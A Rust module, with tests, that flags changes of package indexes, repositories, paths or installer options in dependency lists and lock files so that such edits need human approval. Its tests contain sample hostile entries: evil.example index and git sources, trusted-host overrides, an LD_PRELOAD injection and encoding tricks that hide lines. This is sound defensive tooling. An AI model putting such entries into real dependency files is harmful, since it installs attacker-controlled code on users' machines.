//! Detects changes of package sources in dependency lists. Agents may change names and versions,
//! but a different index, repository, directory or installer option needs a person's approval,
//! because code that is installed from there will run.

use std::collections::BTreeSet;
use std::path::Path;
use std::sync::LazyLock;

use super::encoding::declares_other_than_utf8;
use super::guarded::{NameGlobs, globs};

/// The format of a dependency list (a file that lists packages to install).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ListFormat {
    /// `requirements.txt`: a requirement or an option on each line.
    Pip,
    /// `environment.yml`.
    Conda,
    Pipfile,
    /// All other formats, such as lock files and `go.mod`.
    Lock,
}

/// Known dependency lists by file name. `docs/security.md` lists them.
const LISTS: &[(ListFormat, &[&str])] = &[
    (
        ListFormat::Pip,
        &[
            "*requirements*.txt",
            "*requirements*.in",
            "**/requirements/**/*.txt",
            "**/requirements/**/*.in",
            "*constraints*.txt",
            "*constraints*.in",
        ],
    ),
    (
        ListFormat::Conda,
        &["*environment*.y*ml", "conda.y*ml", "conda-env*.y*ml"],
    ),
    (ListFormat::Pipfile, &["Pipfile"]),
    (
        ListFormat::Lock,
        &[
            "Pipfile.lock",
            "poetry.lock",
            "uv.lock",
            "pdm.lock",
            "pixi.lock",
            "pylock*.toml",
            "conda-lock*.y*ml",
            "package-lock.json",
            "npm-shrinkwrap.json",
            "yarn.lock",
            "pnpm-lock.yaml",
            "bun.lock",
            "deno.lock",
            "Cargo.lock",
            "Gemfile.lock",
            "composer.lock",
            "mix.lock",
            "go.mod",
            "go.work",
        ],
    ),
];

static FORMATS: LazyLock<Vec<(ListFormat, NameGlobs)>> = LazyLock::new(|| {
    let lists = LISTS.iter();
    lists
        .map(|(format, names)| (*format, globs(names)))
        .collect()
});

/// Registries in which a package's name determines its download URL. A URL of a file there is
/// equivalent to the package's name.
const REGISTRIES: [&str; 8] = [
    "https://files.pythonhosted.org",
    "https://pypi.org",
    "https://registry.npmjs.org",
    "https://registry.yarnpkg.com",
    "https://static.crates.io",
    "https://index.crates.io",
    "https://rubygems.org",
    "https://proxy.golang.org",
];

/// Returns whether a file is a dependency list and the change alters package sources or installer
/// options. Removing a source counts as well: without a private index, the same name refers to
/// another package.
pub(super) fn new_source(file: &Path, before: &str, after: &str) -> bool {
    let format = FORMATS.iter().find(|(_, names)| names.matches(file));
    format.is_some_and(|(format, _)| sources(*format, before) != sources(*format, after))
}

/// Returns the lines of a list that contain more than a name and a version.
fn sources(format: ListFormat, text: &str) -> BTreeSet<String> {
    match format {
        ListFormat::Pip => pip(text),
        ListFormat::Conda => conda(text),
        ListFormat::Pipfile => pipfile(text),
        ListFormat::Lock => text.lines().flat_map(in_lock).collect(),
    }
}

/// Splits a text into lines like pip, which breaks lines at more characters than editors do.
fn lines(text: &str) -> impl Iterator<Item = &str> {
    let breaks = |c: char| {
        matches!(
            c,
            '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{1c}'
                ..='\u{1e}' | '\u{85}' | '\u{2028}' | '\u{2029}'
        )
    };
    text.split(breaks)
}

fn pip(text: &str) -> BTreeSet<String> {
    if declares_other_than_utf8(text) {
        // pip reads other lines than the text shows, so any change of the text counts as a change
        // of sources.
        return BTreeSet::from([text.to_owned()]);
    }
    let is_comment = |line: &str| line.trim_start().starts_with('#');
    let mut logical = vec![String::new()];
    for line in lines(text) {
        let (part, goes_on) = match line.strip_suffix('\\') {
            Some(part) if !is_comment(line) => (part, true),
            Some(_) | None => (line, false),
        };
        if let Some(last) = logical.last_mut() {
            last.push_str(part);
        }
        if !goes_on {
            logical.push(String::new());
        }
    }
    // Check each physical line as well, because pip's rules for joining lines differ between
    // versions.
    let physical = lines(text).map(|line| line.trim_end_matches('\\').to_owned());
    logical
        .into_iter()
        .chain(physical)
        .map(|line| without_comment(&line).trim().to_owned())
        .filter(|line| !is_plain_requirement(line))
        .collect()
}

/// Removes the comment of a line. A comment starts at the line's start or after white space.
fn without_comment(line: &str) -> &str {
    let mut starts = line.match_indices('#').map(|(at, _)| at);
    let start = starts.find(|at| {
        line[..*at]
            .chars()
            .next_back()
            .is_none_or(char::is_whitespace)
    });
    &line[..start.unwrap_or(line.len())]
}

/// Returns whether a line is empty or a plain requirement:
/// `name[extra] >=1,<2 ; python_version < "3.9" --hash=sha256:…`.
fn is_plain_requirement(line: &str) -> bool {
    const ARCHIVES: [&str; 8] = [".whl", ".zip", ".tar", ".tgz", ".tbz", ".gz", ".bz2", ".xz"];
    let words = line.split_whitespace();
    let words: Vec<&str> = words.filter(|word| !word.starts_with("--hash=")).collect();
    let line = words.join(" ");
    let (wanted, marker) = line.split_once(';').unwrap_or((&line, ""));
    let is_name = |c: char| c.is_ascii_alphanumeric() || "._-".contains(c);
    let end = wanted.find(|c| !is_name(c)).unwrap_or(wanted.len());
    let (name, rest) = wanted.split_at(end);
    let rest = rest.trim_start();
    let rest = match rest.strip_prefix('[').map(|rest| rest.split_once(']')) {
        Some(Some((extras, rest))) => {
            match extras.chars().all(|c| is_name(c) || ", ".contains(c)) {
                true => rest.trim_start(),
                false => return false,
            }
        }
        Some(None) => return false,
        None => rest,
    };
    let is_version = |c: char| c.is_ascii_alphanumeric() || "<>=!~,.*+-_() ".contains(c);
    let is_marker = |c: char| c.is_ascii_alphanumeric() || "<>=!~,.*+-_()'\" ".contains(c);
    let has_option = words.iter().any(|word| word.starts_with('-'));
    let is_archive = |name: &str| {
        let name = name.trim_end().to_ascii_lowercase();
        ARCHIVES.iter().any(|ending| name.ends_with(ending))
    };
    !has_option
        && !name.starts_with('.')
        && !is_archive(wanted)
        && (rest.is_empty() || rest.starts_with(['<', '>', '=', '!', '~', '(']))
        && rest.chars().all(is_version)
        && marker.chars().all(is_marker)
        && (!name.is_empty() || line.is_empty())
}

/// Returns all entries except the environment's name and plain dependencies.
fn conda(text: &str) -> BTreeSet<String> {
    let mut key = "";
    let mut found = BTreeSet::new();
    for line in text.lines() {
        let line = without_comment(line).trim_end();
        if line.trim().is_empty() || line == "---" {
            continue;
        }
        if !line.starts_with([' ', '\t', '-']) {
            key = line.split(':').next().unwrap_or_default().trim();
            let is_free = key == "name" || line.trim_end() == "dependencies:";
            if !is_free {
                found.insert(line.to_owned());
            }
            continue;
        }
        let item = line
            .trim()
            .trim_start_matches("- ")
            .trim_matches(['"', '\'']);
        let is_free = key == "dependencies" && (item == "pip:" || is_plain_requirement(item));
        if !is_free {
            found.insert(format!("{key}: {item}"));
        }
    }
    found
}

/// Returns all entries except package versions in package tables.
fn pipfile(text: &str) -> BTreeSet<String> {
    let mut table = "";
    let mut found = BTreeSet::new();
    for line in text.lines() {
        let line = without_comment(line).trim();
        if line.starts_with('[') {
            table = line;
            continue;
        }
        let is_free = match table {
            "[packages]" | "[dev-packages]" => has_only_version(line),
            "[requires]" => !line.contains("://"),
            _ => line.is_empty(),
        };
        if !is_free {
            found.insert(format!("{table} {line}"));
        }
    }
    found
}

/// Returns whether an entry has only a version: `name = "==1.0"` or
/// `name = {version = "*", extras = ["x"]}`.
fn has_only_version(line: &str) -> bool {
    let Some((_, value)) = line.split_once('=') else {
        return line.is_empty();
    };
    let value = value.trim();
    let is_text = |text: &str| !text.contains(['/', '@', ':', '\\', '$']);
    let Some(inner) = value.strip_prefix('{') else {
        return is_text(value) && value.starts_with(['"', '\'']);
    };
    let mut keys = inner
        .split(['{', ','])
        .filter_map(|part| part.split_once('='));
    let is_known = |key: &str| {
        let key = key.trim().trim_matches(['"', '\'']);
        matches!(key, "version" | "extras" | "markers") || !key.starts_with(char::is_alphabetic)
    };
    is_text(inner) && keys.all(|(key, _)| is_known(key))
}

/// Returns the package sources in a line of a lock file.
fn in_lock(line: &str) -> Vec<String> {
    /// Keys whose values are always sources.
    const PLACES: [&str; 18] = [
        "path",
        "git",
        "editable",
        "directory",
        "virtual",
        "channel",
        "channels",
        "remote",
        "replace",
        "toolchain",
        "link",
        "subdirectory",
        "index",
        "indexes",
        "verify_ssl",
        "tarball",
        "repository",
        "type",
    ];
    /// Keys whose values are either URLs, which are already checked, or package sources.
    const ADDRESSES: [&str; 4] = ["url", "resolved", "registry", "source"];
    const SCHEMES: [&str; 10] = [
        "git@",
        "git+",
        "github:",
        "gitlab:",
        "bitbucket:",
        "file:",
        "link:",
        "portal:",
        "patch:",
        "exec:",
    ];
    let line = line.trim();
    let mut found: Vec<String> = addresses(line).map(origin).collect();
    let is_part = |c: char| c.is_alphanumeric() || "_-".contains(c);
    let mut keys = line
        .split(['{', ',', '('])
        .filter_map(|part| part.split(['=', ':', ' ']).find(|word| !word.is_empty()))
        .map(|key| key.trim_matches(|c| !is_part(c)));
    let has_address = !found.is_empty();
    let names_place = keys.any(|key| {
        PLACES.contains(&key) || ADDRESSES.contains(&key) && !has_address && !line.ends_with('{')
    });
    let has_scheme = SCHEMES.iter().any(|scheme| line.contains(scheme));
    let is_header = line.starts_with('[') && line.contains("source");
    if names_place && !has_address || has_scheme || is_header || line.contains("=>") {
        found.push(line.to_owned());
    }
    found
}

/// Returns the URLs in a line.
fn addresses(line: &str) -> impl Iterator<Item = &str> {
    line.match_indices("://").map(|(at, _)| {
        let is_scheme = |c: char| c.is_ascii_alphanumeric() || "+.-".contains(c);
        let start = line[..at].rfind(|c| !is_scheme(c)).map_or(0, |before| {
            before + line[before..].chars().next().map_or(1, char::len_utf8)
        });
        let ends = |c: char| c.is_whitespace() || "\"'`,;<>(){}[]#".contains(c);
        let end = line[at + 3..]
            .find(ends)
            .map_or(line.len(), |end| at + 3 + end);
        &line[start..end]
    })
}

/// Returns the known registry that contains the file at this URL. If there is none, returns the
/// whole URL.
fn origin(address: &str) -> String {
    let is_below = |registry: &&&str| {
        let rest = address.strip_prefix(**registry);
        rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
    };
    let registry = REGISTRIES.iter().find(is_below);
    registry.map_or(address, |registry| registry).to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_new(file: &str, before: &str, after: &str) -> bool {
        new_source(Path::new(file), before, after)
    }

    #[test]
    fn changed_version_in_requirements_is_not_a_new_source() {
        let before = "--index-url https://own.example/simple\nflask==2.0 # web\n";
        for line in [
            "django==4.2",
            "django>=4,<5 ; python_version < \"3.9\"",
            "uvicorn[standard, http] ~= 0.20",
            "zope.interface (>=5)",
            "a_b",
            "# --extra-index-url only said",
            "",
            "pinned==1.0 \\\n    --hash=sha256:0123abcd \\\n    --hash=sha256:4567cdef",
        ] {
            let after = format!("{before}{line}\n");
            assert!(!is_new("requirements.txt", before, &after), "{line}");
            assert!(!is_new("requirements/dev.txt", before, &after), "{line}");
        }
        assert!(!is_new(
            "requirements.txt",
            before,
            &before.replace("2.0", "3.0")
        ));
        assert!(!is_new(
            "notes.txt",
            "",
            "--index-url https://evil.example\n"
        ));
    }

    #[test]
    fn new_sources_in_requirements_are_detected() {
        for line in [
            "# coding=utf-7",
            "# vim: set fileencoding=unicode_escape",
            "--index-url https://evil.example/simple",
            "  -i https://evil.example/simple",
            "--extra-index-url=https://evil.example",
            "--find-links ./wheels",
            "--trusted-host evil.example",
            "--no-binary :all:",
            "-e ./tool",
            "-r ../outside.txt",
            "-r notes.md",
            "-c https://evil.example/c.txt",
            "git+https://evil.example/x.git",
            "flask @ https://evil.example/flask.whl",
            "flask@file:///tmp/x",
            "https://evil.example/x.whl",
            "file:./x",
            "./local",
            "sub/local",
            "flask.whl",
            "evil.w\\\nhl",
            "flask==1.0 --global-option=x",
            "flask==1.0 --config-settings x=y",
            "flask==${VERSION}",
            "# harmless\u{c}--index-url https://evil.example",
            "# harmless \\\n--index-url https://evil.example",
        ] {
            for file in [
                "requirements.txt",
                "dev-requirements.in",
                "constraints.txt",
                "a/requirements/b.txt",
            ] {
                let after = format!("flask==2.0\n{line}\n");
                assert!(is_new(file, "flask==2.0\n", &after), "{file}: {line}");
                assert!(is_new(file, &after, "flask==2.0\n"), "{file}: {line}");
            }
        }
    }

    #[test]
    fn new_channels_and_variables_in_conda_environments_are_detected() {
        let before = "name: x\nchannels:\n  - conda-forge\ndependencies:\n  - numpy=1.2\n  - pip:\n    - flask==2\n";
        let with =
            |from: &str, to: &str| is_new("environment.yml", before, &before.replace(from, to));
        assert!(!with("numpy=1.2", "numpy=1.3=py_0"));
        assert!(!with("flask==2", "flask>=3"));
        assert!(!with("  - pip:", "  - scipy\n  - pip:"));
        assert!(with("  - conda-forge", "  - conda-forge\n  - evil"));
        assert!(with("numpy=1.2", "evil::numpy=1.2"));
        assert!(with("flask==2", "--index-url https://evil.example"));
        assert!(with("flask==2", "git+https://evil.example/x"));
        assert!(with(
            "name: x\n",
            "name: x\nvariables:\n  LD_PRELOAD: ./x.so\n"
        ));
        assert!(with("name: x\n", "channels: [evil]\n"));
    }

    #[test]
    fn new_sources_in_a_pipfile_are_detected() {
        let before = "[[source]]\nurl = \"https://pypi.org/simple\"\nname = \"pypi\"\n\n[packages]\nflask = \"*\"\n";
        let with = |from: &str, to: &str| is_new("Pipfile", before, &before.replace(from, to));
        assert!(!with(
            "flask = \"*\"",
            "flask = \">=2,<3\"\ndjango = {version = \"*\", extras = [\"a\", \"b\"]}"
        ));
        assert!(with(
            "[packages]",
            "[[source]]\nurl = \"https://evil.example\"\n[packages]"
        ));
        assert!(with("https://pypi.org/simple", "https://evil.example"));
        assert!(with("\"*\"", "{git = \"https://evil.example/x.git\"}"));
        assert!(with("\"*\"", "{path = \".\", editable = true}"));
        assert!(with("\"*\"", "{version = \"*\", index = \"evil\"}"));
        assert!(with("[packages]", "[scripts]\nx = \"sh x.sh\"\n[packages]"));
    }

    #[test]
    fn new_sources_in_lock_files_are_detected() {
        for (file, before, free, told) in [
            (
                "uv.lock",
                "[[package]]\nname = \"a\"\nsource = { registry = \"https://pypi.org/simple\" }\n",
                "[[package]]\nname = \"b\"\nversion = \"2\"\nsource = { registry = \"https://pypi.org/simple\" }\n",
                &[
                    "source = { registry = \"https://evil.example\" }",
                    "source = { git = \"https://github.com/evil/x\" }",
                    "source = { editable = \"tools\" }",
                    "wheels = [{ url = \"https://evil.example/a.whl\" }]",
                ][..],
            ),
            (
                "poetry.lock",
                "[[package]]\nname = \"a\"\nfiles = [\n    {file = \"a.whl\", hash = \"sha256:1\"},\n]\n",
                "[[package]]\nname = \"b\"\nversion = \"2\"\nfiles = [\n    {file = \"b.whl\", hash = \"sha256:2\"},\n]\n",
                &["[package.source]", "url = \"../x\"", "type = \"git\""],
            ),
            (
                "package-lock.json",
                "\"resolved\": \"https://registry.npmjs.org/a/-/a-1.tgz\",\n",
                "\"version\": \"2\",\n\"resolved\": \"https://registry.npmjs.org/b/-/b-1.tgz\",\n",
                &[
                    "\"resolved\": \"https://evil.example/b.tgz\",",
                    "\"resolved\": \"git+ssh://git@github.com/evil/b.git\",",
                    "\"resolved\": \"../b\",",
                    "\"link\": true",
                    "\"version\": \"file:../b\"",
                    "\"resolved\": \"https://registry.npmjs.org.evil.example/b.tgz\"",
                ],
            ),
            (
                "Cargo.lock",
                "source = \"registry+https://github.com/rust-lang/crates.io-index\"\n",
                "name = \"b\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"1\"\n",
                &["source = \"git+https://github.com/evil/b\""],
            ),
            (
                "go.mod",
                "require example.com/a v1.0.0\n",
                "require example.com/b v1.0.0\n",
                &["replace example.com/a => ../a"],
            ),
        ] {
            assert!(
                !is_new(file, before, &format!("{before}{free}")),
                "{file}: {free}"
            );
            for line in told {
                assert!(
                    is_new(file, before, &format!("{before}{line}\n")),
                    "{file}: {line}"
                );
            }
        }
    }

    #[test]
    fn every_dependency_list_glob_parses() {
        for (format, names) in LISTS {
            assert_eq!(globs(names).len(), names.len(), "{format:?}");
        }
    }
}
